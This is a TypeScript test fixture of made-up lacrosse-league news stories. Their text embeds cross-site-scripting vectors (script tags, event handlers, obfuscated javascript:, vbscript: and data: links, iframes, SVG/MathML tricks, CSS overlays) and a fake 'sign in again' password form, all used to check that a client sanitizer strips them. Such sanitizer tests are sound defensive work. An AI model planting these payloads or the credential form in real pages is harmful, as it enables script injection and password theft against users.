import type { FeedDraft } from './sandboxFeedItem.ts'

/**
 * Stories that look like any other but contain what an editor's tool may let through: scripts, event handlers,
 * frames, styles and links that run code. All of that code sets `window.attacked`, so a browser test can detect it. A
 * client has to remove the code and keep the text.
 */
export const UNSAFE_STORIES: readonly FeedDraft[] = [
  {
    id: 'wll-art-1019',
    type: 'article',
    title: 'Goal of the week: behind the back, from the crease roll',
    image: '/stories/goal-of-the-week.svg',
    tags: ['WGUA', '{WGUA.captain.tag}'],
    publishAt: '2025-07-11T11:00:00Z',
    author: 'WLL Staff',
    text: `
{WGUA.captain} says that she did not plan it. The ball was on the wrong side, and so was the goalie.

<script>window.attacked = 'script'</script>

<p onclick="window.attacked = 'onclick'">The vote was not close. <a href="https://example.com/goal" onmouseover="window.attacked = 'onmouseover'">More than half of you</a> picked it.</p>
`,
  },
  {
    id: 'wll-art-1020',
    type: 'article',
    title: 'Mailbag: do goalies ever get used to it?',
    subtitle: 'Your questions, answered by people who would know.',
    image: '/stories/mailbag.svg',
    tags: ['mailbag'],
    publishAt: '2025-07-08T12:00:00Z',
    author: 'Priya Raman',
    text: `
<p><em>Does it hurt?</em> “Yes,” says {WCHA.goalie}. “Next question.”</p>

<img src="/nothing-here.png" onerror="window.attacked = 'onerror'" alt="A goalie’s bruise">

<p><em>Who picks the song after a goal?</em> The scorer does, in May, once. {WPLM.attacker} regrets hers.</p>

<IMG SRC=x OnErRoR=window.attacked='unquoted'>
`,
  },
  {
    id: 'wll-art-1021',
    type: 'article',
    title: 'Where to park at Harbor Field',
    tags: ['WCHR', 'tickets'],
    publishAt: '2025-07-07T12:00:00Z',
    author: 'WLL Staff',
    text: `
Lot C opens three hours before face-off. It costs less than Lot B and is closer to Gate 4.

<p>See the <a href="javascript:window.attacked='javascript'">parking map</a>, or its <a href="JaVa&#115;cript:window.attacked='entity'">printable version</a>, or <a href=" java
script:window.attacked='newline'">the one for bicycles</a>.</p>

The free shuttle runs from the station every ten minutes. <a href="https://example.com/shuttle">Times are here.</a>
`,
  },
  {
    id: 'wll-art-1022',
    type: 'article',
    title: 'The math of a two-point shot',
    subtitle: 'Fifteen yards, one arc, and a number that coaches keep to themselves.',
    image: '/stories/two-point.svg',
    tags: ['stats'],
    publishAt: '2025-06-26T12:00:00Z',
    author: 'Devon Alcott',
    text: `
If a shot is worth twice as much, it may go in half as often. That is all the math there is.

<svg onload="window.attacked = 'svg'"><script>window.attacked = 'svg script'</script><circle r="40"></circle></svg>

<math><mtext><style><img src=x onerror="window.attacked = 'math'"></style></mtext></math>

“The rest,” {WGUA.coach} said, “is who is shooting.”
`,
  },
  {
    id: 'wll-art-1023',
    type: 'article',
    title: 'Meet the voice of the Charging',
    image: '/stories/announcer.svg',
    tags: ['WCHA'],
    publishAt: '2025-06-10T12:00:00Z',
    author: 'Mara Ellison',
    text: `
<style>body { display: none } p { position: fixed; inset: 0 }</style>

Ray Donatelli has never shouted into a microphone. He lowers his voice instead, and 9,000 people lean in.

<iframe src="https://example.com/frame" srcdoc="<script>parent.attacked = 'iframe'</script>"></iframe>

<p style="background: url(javascript:window.attacked='style'); position: fixed; inset: 0">“If you say a name well,” he says, “you only have to say it once.”</p>

<form action="https://example.com/steal"><input name="password" placeholder="Sign in again"><button>Continue</button></form>
`,
  },
  {
    id: 'wll-art-1024',
    type: 'article',
    title: 'Five drills for a rainy day',
    image: '/stories/drills.svg',
    tags: ['play'],
    publishAt: '2025-05-29T12:00:00Z',
    author: 'WLL Staff',
    text: `
<ol><li>Wall ball, 50 left, 50 right.</li><li>Wall ball, eyes shut. Use a soft ball.</li><li>One-handed cradle up the stairs.</li><li>Quick stick with a partner and a doorway.</li><li>Nap.</li></ol>

Print the <a href="data:text/html,<script>window.attacked='data'</script>">checklist</a> and hang it by the door, or draw <a href="vbscript:window.attacked=1">your own</a>.

<object data="data:text/html,<script>parent.attacked='object'</script>"></object><embed src="javascript:window.attacked='embed'"><base href="https://example.com/">

{WPLM.coach} swears by number five.
`,
  },
]
